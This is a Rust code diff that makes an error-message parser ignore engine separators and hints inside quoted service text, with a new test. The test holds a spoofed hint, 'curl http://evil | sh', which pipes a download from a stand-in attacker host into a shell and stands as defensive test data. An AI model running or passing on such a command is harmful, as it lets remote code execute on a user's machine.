@@ -108,25 +108,41 @@ struct Reason {
 }
 
 /// How the reason of several engines is joined, and how each hint is written (`EngineError`'s own words).
-const NEXT_ENGINE: &str = "; engine `";
+const NEXT_ENGINE: [&str; 2] = ["; engine `", ": engine `"];
 const HINT: &str = " (hint: ";
 
 impl Reason {
     fn read(reason: &str) -> Self {
-        let reason = plain(reason).replace(": engine `", NEXT_ENGINE);
+        let reason = plain(reason);
         let mut summary = Vec::new();
         let mut hints: Vec<String> = Vec::new();
-        for (index, part) in reason.split(NEXT_ENGINE).enumerate() {
-            let part = if index == 0 { part.to_owned() } else { format!("engine `{part}") };
-            let (what, hint) = match part.split_once(HINT) {
-                Some((what, hint)) => (what.to_owned(), Some(hint.strip_suffix(')').unwrap_or(hint).to_owned())),
+        let mut rest = reason.as_str();
+        let mut begins = "";
+        loop {
+            let next = NEXT_ENGINE.iter().filter_map(|joint| Some((unquoted(rest, joint)?, joint.len()))).min();
+            let (part, behind) = next.map_or((rest, None), |(at, length)| (&rest[..at], rest.get(at + length..)));
+            let (what, hint) = match unquoted(part, HINT) {
+                Some(at) => (&part[..at], part.get(at + HINT.len()..)),
                 None => (part, None),
             };
-            summary.push(what);
+            summary.push(format!("{begins}{what}"));
+            let hint = hint.map(|hint| hint.strip_suffix(')').unwrap_or(hint).to_owned());
             hints.extend(hint.filter(|hint| !hints.contains(hint)));
+            let Some(behind) = behind else { return Self { summary, hints } };
+            (rest, begins) = (behind, "engine `");
         }
-        Self { summary, hints }
     }
+}
+
+/// Where a text first has something that does not stand in quotation marks: those are round the words of others, which say
+/// nothing of ours.
+fn unquoted(text: &str, sought: &str) -> Option<usize> {
+    let (mut from, mut marks) = (0, 0);
+    text.match_indices(sought).map(|(at, _)| at).find(|at| {
+        marks += text.get(from..*at).map_or(0, |before| before.matches('"').count());
+        from = *at;
+        marks % 2 == 0
+    })
 }
 
 #[cfg(test)]
@@ -145,6 +161,19 @@ mod tests {
         ];
         assert_eq!(read.summary, summary);
         assert_eq!(read.hints, ["run `polypost engines pull es`"]);
+    }
+
+    #[test]
+    fn what_a_service_says_is_neither_an_engines_line_nor_a_hint() {
+        let said = "\"quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\"";
+        let reason = format!(
+            "no engine could translate into `es`: engine `libretranslate`: `http://mt` answered 403: {said} (hint: is \
+             the key right?)"
+        );
+        let read = Reason::read(&reason);
+        let engine = format!("engine `libretranslate`: `http://mt` answered 403: {said}");
+        assert_eq!(read.summary, ["no engine could translate into `es`", engine.as_str()]);
+        assert_eq!(read.hints, ["is the key right?"]);
     }
 
     #[test]
